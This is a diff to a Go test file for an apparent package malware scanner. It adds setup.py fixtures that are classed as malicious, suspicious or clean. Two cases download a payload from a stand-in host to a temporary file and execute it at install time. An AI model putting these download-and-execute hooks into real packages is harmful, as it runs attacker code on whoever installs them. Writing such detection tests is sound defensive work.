@@ -10,7 +10,7 @@ func TestStagesAndProbes(t *testing.T) {
 	tests := []struct {
 		name  string
 		files map[string]string
-		rule  string // "" when no finding of any rule is wanted at High or more
+		rule  string // for a malicious one, the rule whose critical finding calls it so
 		want  Verdict
 	}{
 		{"repository cloned and a script in it run at install", map[string]string{"setup.py": "" +
@@ -20,6 +20,17 @@ func TestStagesAndProbes(t *testing.T) {
 		{"a dependency cloned and installed at install", map[string]string{"setup.py": "" +
 			"import subprocess\nfrom setuptools import setup\n" +
 			"subprocess.check_call(['git', 'clone', 'https://example.invalid/u/dep.git', 'build/dep'])\nsubprocess.check_call(['python', 'setup.py', 'install'], cwd='build/dep')\nsetup(name='p')\n"}, "", Clean},
+		{"a download run from a temporary file at install", map[string]string{"setup.py": "" +
+			"import subprocess, tempfile, requests\nd = requests.get('https://example.invalid/p').content\n" +
+			"with tempfile.NamedTemporaryFile(delete=False, suffix='.exe') as f:\n    f.write(d)\n    name = f.name\nsubprocess.Popen([name])\n"}, "download-execute", Malicious},
+		{"a download to mkstemp's name run by python at install", map[string]string{"setup.py": "" +
+			"import os, tempfile, urllib.request\nfd, path = tempfile.mkstemp(suffix='.py')\nos.write(fd, urllib.request.urlopen('https://example.invalid/s').read())\nos.close(fd)\nos.system('python ' + path)\n"}, "download-execute", Malicious},
+		{"a downloaded archive unpacked from a temporary file at install", map[string]string{"setup.py": "" +
+			"import os, tempfile, urllib.request\nfd, path = tempfile.mkstemp(suffix='.tgz')\nos.write(fd, urllib.request.urlopen('https://example.invalid/lib.tgz').read())\nos.close(fd)\nos.system('tar -xzf ' + path + ' -C build')\n"}, "", Clean},
+		{"a package installed from an arbitrary address at install", map[string]string{"setup.py": "" +
+			"import os\nos.system('pip install https://example.invalid/pkgs/helper-1.0.tar.gz')\n"}, "", Suspicious},
+		{"a dependency installed from its repository at install", map[string]string{"setup.py": "" +
+			"import os\nos.system('pip install git+https://github.com/example/dep.git@v1.2')\n"}, "", Clean},
 		{"notepad opened on import", map[string]string{"p/__init__.py": "import subprocess\nsubprocess.Popen(['notepad'])\n"}, "suspicious-command", Malicious},
 		{"an editor opened by a command of the tool", map[string]string{"p/cli.py": "" +
 			"import subprocess\ndef edit_config(path):\n    subprocess.call(['notepad', path])\n"}, "", Clean},
@@ -39,7 +50,7 @@ func TestStagesAndProbes(t *testing.T) {
 			if r.Verdict != tt.want {
 				t.Errorf("verdict %s, want %s; findings:\n%s", r.Verdict, tt.want, findingLines(r))
 			}
-			if tt.rule != "" && !hasRule(r, tt.rule, Critical) {
+			if tt.rule != "" && !hasRule(r, tt.rule, Critical) && tt.want == Malicious {
 				t.Errorf("no critical %s finding:\n%s", tt.rule, findingLines(r))
 			}
 		})
